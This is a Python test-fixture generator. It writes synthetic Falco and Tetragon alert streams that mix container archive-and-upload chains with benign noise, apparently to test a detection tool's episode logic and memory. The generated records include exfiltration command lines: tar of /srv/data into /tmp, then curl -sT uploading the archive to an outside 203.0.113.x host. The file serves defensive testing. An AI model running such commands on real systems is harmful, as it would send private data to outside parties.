"""A Falco stream to append to a watched file: archive-and-upload chains in separate containers
among benign noise, spaced so that event time closes each chain's episode before the next ends.

Later records of a chain name the container by id only (as a Falco rule that outputs few fields
does), so a watch that lost the identities at a restart would deliver alerts without the image.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import orjson

START = 1_714_644_000.0  # 2024-05-02T10:00:00Z
SPACING = 300.0  # seconds of event time between chains: more than the 60 s settle


def _time(epoch: float) -> str:
    return datetime.fromtimestamp(epoch, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def record(epoch: float, rule: str, fields: dict[str, object], host: str = "node-a") -> bytes:
    body = {
        "hostname": host,
        "output": rule,
        "priority": "Notice",
        "rule": rule,
        "source": "syscall",
        "time": _time(epoch),
        "output_fields": fields,
    }
    return orjson.dumps(body) + b"\n"


def container_id(index: int) -> str:
    return f"{0xC0FFEE000000 + index:012x}"


def chain(index: int, epoch: float) -> list[bytes]:
    cid = container_id(index)
    archive = f"/tmp/dump-{index}.tar.gz"
    dst = f"203.0.113.{10 + index % 200}"
    rich = {
        "container.id": cid,
        "container.name": f"api-{index}",
        "container.image.repository": "registry.example.com/shop/api",
        "container.image.tag": "1.4.2",
        "k8s.ns.name": "shop",
        "k8s.pod.name": f"api-{index}-x2k4q",
    }
    poor = {"container.id": cid}
    return [
        record(
            epoch,
            "Archive tool launched in container",
            {
                **rich,
                "evt.type": "execve",
                "proc.cmdline": f"tar -czf {archive} /srv/data",
                "proc.exepath": "/usr/bin/tar",
                "proc.pid": 4000 + index,
                "proc.ppid": 4100,
                "proc.pcmdline": "sh -c backup",
                "user.name": "root",
            },
        ),
        record(
            epoch + 1.5,
            "Archive written in container",
            {
                **poor,
                "evt.type": "openat",
                "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY",
                "fd.name": archive,
                "proc.cmdline": f"tar -czf {archive} /srv/data",
                "proc.pid": 4000 + index,
            },
        ),
        record(
            epoch + 20.0,
            "Outbound connection from container",
            {
                **poor,
                "evt.type": "connect",
                "fd.cip": "10.244.1.17",
                "fd.cport": 51000 + index,
                "fd.sip": dst,
                "fd.sport": 443,
                "fd.name": f"10.244.1.17:{51000 + index}->{dst}:443",
                "proc.cmdline": f"curl -sT {archive} https://{dst}/upload",
                "proc.pid": 5000 + index,
            },
        ),
        record(
            epoch + 20.5,
            "Upload tool launched in container",
            {
                **poor,
                "evt.type": "execve",
                "proc.cmdline": f"curl -sT {archive} https://{dst}/upload",
                "proc.exepath": "/usr/bin/curl",
                "proc.pid": 5000 + index,
                "proc.ppid": 4100,
            },
        ),
    ]


def noise(rng: random.Random, epoch: float) -> bytes:
    cid = f"{0xBEEF00000000 + rng.randrange(50):012x}"
    command = rng.choice(["ls -la /srv", "sleep 5", "cat /etc/hostname", "date", "id"])
    return record(
        epoch,
        "Container process launched",
        {
            "container.id": cid,
            "evt.type": "execve",
            "proc.cmdline": command,
            "proc.exepath": "/bin/" + command.split()[0],
            "proc.pid": rng.randrange(100, 30000),
        },
    )


def stream(chains: int, noise_per_chain: int = 20, seed: int = 0) -> list[bytes]:
    """Lines in time order; the last one is far enough ahead to close every episode."""
    rng = random.Random(seed)
    lines: list[tuple[float, bytes]] = []
    for index in range(chains):
        epoch = START + index * SPACING
        lines += [(epoch + n * 0.01, line) for n, line in enumerate(chain(index, epoch))]
        for _ in range(noise_per_chain):
            at = epoch + rng.uniform(0, SPACING - 1)
            lines.append((at, noise(rng, at)))
    lines.sort(key=lambda pair: pair[0])
    end = START + chains * SPACING + 2000.0
    return [line for _, line in lines] + [noise(rng, end)]


def churn(containers: int, every: float = 3.0, seed: int = 0) -> Iterator[bytes]:
    """Short-lived containers, one starting every ``every`` seconds of event time and living
    about 20: each with its own image, pod and address, a few processes and a connection inside
    the cluster; one in a hundred packs and uploads. Nothing of a container is needed once it is
    gone, so a watch's memory must not grow with their number."""
    rng = random.Random(seed)
    for index in range(containers):
        epoch = START + index * every
        if index % 100 == 99:
            yield from chain(index, epoch)
            continue
        cid = f"{0xD00D00000000 + index:012x}"
        rich = {
            "container.id": cid,
            "container.name": f"job-{index}",
            "container.image.repository": f"registry.example.com/batch/job-{index % 500}",
            "container.image.tag": f"{index}",
            "k8s.ns.name": "batch",
            "k8s.pod.name": f"job-{index}-{rng.randrange(1 << 20):05x}",
        }
        ip = f"10.{200 + index // 65536 % 50}.{index // 256 % 256}.{index % 256}"
        yield record(
            epoch,
            "Container process launched",
            {
                **rich,
                "evt.type": "execve",
                "proc.cmdline": "python /app/job.py",
                "proc.exepath": "/usr/bin/python3",
                "proc.pid": 1,
            },
        )
        yield record(
            epoch + 5,
            "Outbound connection from container",
            {
                "container.id": cid,
                "evt.type": "connect",
                "fd.cip": ip,
                "fd.cport": 40000,
                "fd.sip": "10.96.0.10",
                "fd.sport": 5432,
                "proc.cmdline": "python /app/job.py",
                "proc.pid": 1,
            },
        )
        yield record(
            epoch + 9,
            "Container process launched",
            {
                "container.id": cid,
                "evt.type": "execve",
                "proc.cmdline": "ls /data",
                "proc.exepath": "/bin/ls",
                "proc.pid": 40,
            },
        )
        yield record(
            epoch + 20,
            "Container process launched",
            {
                "container.id": cid,
                "evt.type": "execve",
                "proc.cmdline": "sh -c exit 0",
                "proc.exepath": "/bin/sh",
                "proc.pid": 41,
            },
        )


DEMO_TETRAGON = (
    Path(__file__).resolve().parents[2] / "src/tidewaiter/demo/linux-tar-upload.tetragon.jsonl"
)


def tetragon_attack(index: int) -> bytes:
    """The bundled Tetragon export of `tar -czf` then `curl -T` to the outside, moved into a
    container and pod of its own (9 records, one tw-archive-exfil alert)."""
    text = DEMO_TETRAGON.read_text()
    for old, new in (
        ("4f1c2b9e", f"{index:08x}"),  # the container id and Tetragon's `docker` field
        ("api-7d9f8b6c5-x2kqz", f"api-7d9f8b6c5-x{index:04d}"),
        ("aXAtMTAtMC0zLTE3", f"aXAtMTAtMC{index:06d}"),  # exec ids stay unique per chain
    ):
        assert old in text
        text = text.replace(old, new)
    return text.encode()
